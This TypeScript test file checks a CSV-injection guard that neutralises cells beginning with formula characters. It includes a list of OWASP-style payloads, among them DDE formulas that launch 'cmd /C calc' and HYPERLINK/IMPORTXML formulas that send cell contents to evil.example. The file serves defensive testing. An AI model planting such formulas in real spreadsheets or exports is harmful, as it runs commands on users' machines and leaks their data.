import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guarded } from './guard.ts';

/** Payloads of OWASP's page "CSV Injection" and of what is known to run in spreadsheets. */
export const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '-',
  '=',
  '-5+cmd',
];

test.each(PAYLOADS)('%j starts no formula', (payload) => {
  expect(guarded(payload, 'prefix')).toBe(`'${payload}`);
  expect(guarded(payload, 'wrap')).toBe(`"${payload}"`);
  expect(guarded(payload, 'off')).toBe(payload);
});

describe('what is no formula stays as it is', () => {
  test.each([
    '-5',
    '+3.25',
    '-1e-7',
    '-0,5',
    '+49',
    'a=b',
    '1+1',
    '',
    "'=1",
    '2026-01-01',
    'é',
    'مالك',
    ' text',
    '北京',
  ])('%j', (text) => expect(guarded(text, 'prefix')).toBe(text));
});

test('no guarded text begins like a formula, whatever blanks stand before', () => {
  const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom(...'=+-@ \t\r\n"\',;a1') }));
  fc.assert(
    fc.property(text, (value) => {
      const out = guarded(value, 'prefix').replace(/^[\s\p{C}]+/u, '');
      expect(/^[=+\-@＝＋－＠]/.test(out) && !/^[+-]?[\d.,]+(e[+-]?\d+)?$/i.test(out)).toBe(false);
    }),
    { numRuns: 2_000 },
  );
});
